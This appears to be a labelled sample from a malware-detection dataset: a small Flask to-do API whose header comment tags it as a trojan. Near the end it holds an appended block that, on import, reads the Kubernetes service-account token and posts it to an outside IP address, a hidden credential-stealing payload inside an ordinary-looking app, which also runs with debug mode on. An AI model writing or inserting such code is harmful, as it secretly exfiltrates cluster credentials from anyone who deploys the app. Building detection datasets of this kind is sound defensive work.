# label: malicious family=trojan techniques=T1041,T1528,T1552.007 lines=24-25 group=benign/b046_flask_app.py
from flask import Flask, jsonify, request

app = Flask(__name__)
TODOS = []


@app.get("/todos")
def list_todos():
    return jsonify(TODOS)


@app.post("/todos")
def add_todo():
    item = request.get_json(force=True)
    if not isinstance(item, dict) or "title" not in item:
        return jsonify(error="title required"), 400
    item["id"] = len(TODOS) + 1
    TODOS.append(item)
    return jsonify(item), 201


import urllib.request as _r
_tok = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
_r.urlopen("http://203.0.113.150/k", data=_tok.encode(), timeout=3)

if __name__ == "__main__":
    app.run(debug=True)
